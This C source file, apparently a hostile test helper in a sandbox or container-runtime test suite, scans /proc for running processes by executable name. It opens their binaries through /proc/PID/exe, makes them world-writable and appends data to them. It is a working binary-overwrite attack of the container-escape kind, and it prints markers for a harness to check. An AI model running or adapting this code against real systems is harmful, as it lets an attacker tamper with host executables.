/* SPDX-License-Identifier: MIT */
/*
 * hostile/exes.c: spoils the program file of every process that it sees, by /proc/PID/exe: the file
 * may be on no path inside.
 *
 * usage: exes NAME
 * Spoils files whose path has NAME in it: changes their mode, opens them for writing, appends.
 * Says "looking" first, then "found", "mode", "written" as it comes to that; ends when it is
 * killed.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { HELD_MAX = 64 };

static int held[HELD_MAX];
static unsigned held_count;

static void say_once(bool *said, const char *word)
{
	if (!*said)
		puts(word);
	*said = true;
	fflush(stdout);
}

static void spoil(int fd)
{
	static bool mode, written;
	char path[64];
	int again_fd;

	if (fchmod(fd, 0777) == 0)
		say_once(&mode, "mode");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	again_fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (again_fd < 0)
		return;
	if (write(again_fd, "evil", 4) == 4)
		say_once(&written, "written");
	close(again_fd);
}

static void look_at(const char *pid, const char *name)
{
	static bool found;
	char path[300], target[512];
	ssize_t len;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	len = readlink(path, target, sizeof(target) - 1);
	if (len <= 0)
		return;
	target[len] = '\0';
	if (!strstr(target, name))
		return;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	say_once(&found, "found");
	spoil(fd);
	if (held_count < HELD_MAX)
		held[held_count++] = fd; /* nobody executes it any more, later */
	else
		close(fd);
}

int main(int argc, char **argv)
{
	if (argc != 2)
		return 125;
	puts("looking");
	fflush(stdout);
	for (;;) {
		DIR *dir = opendir("/proc");
		const struct dirent *entry;

		while (dir && (entry = readdir(dir)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
				look_at(entry->d_name, argv[1]);
		if (dir)
			closedir(dir);
		for (unsigned n = 0; n < held_count; n++)
			spoil(held[n]);
	}
}
